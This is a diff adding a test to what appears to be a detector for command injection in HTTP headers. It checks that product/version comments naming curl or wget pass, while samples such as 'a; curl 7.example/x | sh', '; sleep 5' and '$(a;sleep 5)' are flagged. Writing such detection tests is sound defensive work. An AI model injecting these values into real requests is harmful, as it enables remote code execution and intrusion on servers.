@@ -22,6 +22,13 @@ const line = (text: string): string => judged(familyOfLine, text).name;
 const get = (target: string): string => judged(familyOfTarget, target).name;
 const header = (text: string): string => judged(familyOfHeader, text).name;
 
+test('a product and its version in the comment of a header is no command', () => {
+  assert.equal(header('Composer/2.7.1 (Linux; 6.1.0; PHP 8.2.7; cURL 7.88.1)'), '');
+  assert.equal(header('Mozilla/5.0 (X11; wget 1.2; rv)'), '');
+  for (const text of ['a; curl 7.example/x | sh', 'x (;ping -c 3 a)', 'Mozilla/5.0 (X11); sleep 5', '$(a;sleep 5)'])
+    assert.notEqual(header(text), '', text);
+});
+
 test('families have a name of their own, a sentence and a bound, and fit into a byte', () => {
   assert.equal(new Set(FAMILIES.map(({ name }) => name)).size, FAMILIES.length);
   assert.ok(FAMILIES.length < 256);
